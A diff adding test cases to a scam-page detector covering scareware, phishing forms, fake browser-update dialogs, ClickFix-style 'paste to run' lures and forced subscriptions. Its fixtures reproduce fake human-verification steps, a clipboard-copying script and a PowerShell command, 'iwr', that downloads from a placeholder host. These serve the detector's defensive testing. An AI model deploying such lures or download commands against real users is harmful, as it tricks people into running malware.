@@ -33,6 +33,10 @@ describe('§2.5.13 scareware', () => {
       assert.deepEqual(slugsOf({ text: pressure }), []);
     });
 
+  it('is found in Turkish capitals, whose i has a dot or none', () => {
+    assert.deepEqual(slugsOf({ text: 'BİLGİSAYARINIZ KİLİTLENDİ.\nBU PENCEREYİ KAPATMAYIN.' }), ['scareware']);
+  });
+
   it('is found despite invisible and full-width characters', () => {
     const text = 'Your com\u00adputer has be\u200ben locked.\nＤｏ ｎｏｔ ｒｅｓｔａｒｔ it.';
     assert.deepEqual(slugsOf({ text }), ['scareware']);
@@ -58,6 +62,13 @@ describe('§2.5.13 scareware', () => {
     assert.deepEqual(slugsOf({ text: `Your device is at risk.\n${pressure}`, url }), []);
     const ofUser = 'https://sites.google.com/view/help';
     assert.deepEqual(slugsOf({ text: `Your device is at risk.\n${pressure}`, url: ofUser }), ['scareware']);
+  });
+
+  it('is found by any telephone number of the page, and an address of a network is none', () => {
+    const claim = 'Your computer has been locked.\n';
+    assert.deepEqual(slugsOf({ text: `${claim}IP: 81.2.69.142\nCall Support +1-888-555-0142` }), ['scareware']);
+    assert.deepEqual(slugsOf({ text: `${claim}Code: 12345678.\nAppelez le 01.23.45.67.89, call now` }), ['scareware']);
+    assert.deepEqual(slugsOf({ text: `${claim}IP: 192.168.100.200, 2026-01-15 10\nCall Support` }), []);
   });
 
   it('is not found in an article about an illness', () => {
@@ -147,7 +158,14 @@ describe('§2.5.13 phishing_form', () => {
 
   it('is not found for a button of another login or a way to pay with the pixel of its owner', () => {
     const withPicture = (text: string, url: string, facts: Partial<ReturnType<typeof requestOf>> = {}) => {
-      const request = { url, resource_type: 'image', content_type: 'image/gif', body_size: 4_000, landing: 0, ...facts };
+      const request = {
+        url,
+        resource_type: 'image',
+        content_type: 'image/gif',
+        body_size: 4_000,
+        landing: 0,
+        ...facts,
+      };
       return slugsOf({}, [login({ text })], { requests: [requestOf(1, request)] });
     };
     const shop = 'Log in\nE-mail\nPassword\nContinue with Facebook';
@@ -219,11 +237,56 @@ describe('§2.5.13 fake updates, dialogs and commands', () => {
     assert.deepEqual(slugs(box('Delete the project?', ['Cancel', 'Delete'])), []);
   });
 
+  it('fake_system_dialog is found for an old browser in its name with an update from elsewhere, not in a hint of a bank', () => {
+    const html = '<button>Update</button><a href="/browsers">Update here</a><button>OK</button>';
+    const slugs = (text: string, button: string) =>
+      slugsOf({ html }, [observed('dialog_box', { text, buttons: [button] })]);
+    const [old, named] = ['Your browser is out of date.', 'Please use a current version of Google Chrome or Firefox.'];
+    assert.deepEqual(slugs(`Google Chrome\n${old}`, 'Update'), ['fake_system_dialog']);
+    assert.deepEqual(slugs(`Google Chrome\n${old}`, 'Update here'), []);
+    assert.deepEqual(slugs(`Google Chrome\n${old}`, 'OK'), []);
+    assert.deepEqual(slugs(`${old} ${named}`, 'OK'), []);
+    assert.deepEqual(slugs(`${old}\n${named}`, 'Update'), []);
+  });
+
   it('paste_to_run is found if visitors are to prove to be human by a command', () => {
     const steps = 'Press Windows + R.\nPress Ctrl + V.\nPress Enter.';
     assert.deepEqual(slugsOf({ text: `Verify that you are human.\n${steps}` }), ['paste_to_run']);
     assert.deepEqual(slugsOf({ text: `How to open the editor:\n${steps}` }), []);
     assert.deepEqual(slugsOf({ text: 'Verify that you are human.' }), []);
+    const split = 'Verify you are human\nPress & hold the Windows Key \uf17a\n+ R\nPress CTRL\n+ V';
+    assert.deepEqual(slugsOf({ text: split.replace('CTRL\n+ V', 'Ctrl + V') }), ['paste_to_run']);
+    assert.deepEqual(slugsOf({ text: split.replace(' + V', '+V') }), ['paste_to_run']);
+    assert.deepEqual(slugsOf({ text: 'Reload on Windows: Ctrl + R. Paste: Ctrl + V. The captcha is below.' }), []);
+  });
+
+  it('paste_to_run is found in an instruction that is shown after a click, if a script copies something', () => {
+    const box = '<label><input type="checkbox"> I am not a robot</label>';
+    const steps =
+      '<ol style="visibility: hidden"><li>Press <kbd>Windows <i class="fa"></i></kbd> + <kbd>R</kbd></li><li>Press&nbsp;Ctrl + V</li></ol>';
+    const script = (code: string) => `<script>${code}</script>`;
+    const copy = script("document.execCommand('copy')");
+    const text = 'I am not a robot';
+    assert.deepEqual(slugsOf({ text, html: box + steps + copy }), ['paste_to_run']);
+    assert.deepEqual(slugsOf({ text, html: box + steps }), []);
+    assert.deepEqual(slugsOf({ text, html: box + copy }), []);
+    assert.deepEqual(slugsOf({ text, html: box + copy + script(`const steps = '${steps}'`) }), []);
+    assert.deepEqual(slugsOf({ text: `${text}. Beware of ClickFix, a scam.`, html: box + steps + copy }), []);
+  });
+
+  it('paste_to_run is found under another pretext if a script copies a command that loads a program', () => {
+    const copying = (command: string) => `<script>navigator.clipboard.writeText("${command}")</script>`;
+    const html = copying('powershell -c iwr https://x.example/a');
+    const repair = 'Something went wrong. How to fix it:\n1. Press Win + R\n2. Press Ctrl + V';
+    const file =
+      'A file was shared with you.\nOpen File Explorer, select the address bar (Ctrl + L) and paste the path.';
+    for (const text of [repair, file]) {
+      assert.deepEqual(slugsOf({ text, html }), ['paste_to_run'], text);
+      assert.deepEqual(slugsOf({ text }), [], text);
+      assert.deepEqual(slugsOf({ text, html: copying('sfc /scannow') }), [], text);
+    }
+    const install = 'Install errors? Open PowerShell and paste this command.';
+    assert.deepEqual(slugsOf({ text: install, html }), []);
   });
 });
 
@@ -244,6 +307,9 @@ describe('§2.5.13 forced_subscription', () => {
     const ticked = (label: string) => slugsOf({}, [observed('preselected', { label })]);
     assert.deepEqual(ticked('Join the club for 9 $ a month'), ['forced_subscription']);
     assert.deepEqual(ticked('Send me the newsletter each month'), []);
+    assert.deepEqual(ticked('Weekly newsletter (max 2 e-mails a week)'), []);
+    assert.deepEqual(ticked('Monthly / Yearly (save 20%)'), []);
+    assert.deepEqual(ticked('Klub za 19 zł miesięcznie'), ['forced_subscription']);
     const to = (url: string) => slugsOf({}, [observed('auto_redirect', { to: url, after_load_ms: 0, refused: false })]);
     assert.deepEqual(to('sms:12345?body=GO'), ['forced_subscription']);
     assert.deepEqual(to('tel:12345'), []);
@@ -319,9 +385,10 @@ describe('phrases and links', () => {
       'а вот и он: usb, wi-fi',
       'το κράτος και η google',
       'お使いのpcデバイス',
-      'geïnfecteerd, gefälscht, dolandırıcı, zainfekowań',
+      'geïnfecteerd, gefälscht, zainfekowań',
     ];
     for (const text of texts) assert.equal(readableText(text), text.normalize('NFKC'));
+    for (const text of ['dolandırıcı', 'DOLANDIRICI', 'DOLANDİRİCİ']) assert.equal(readableText(text), 'dolandirici');
   });
 
   it('links are read from a serialised document', () => {
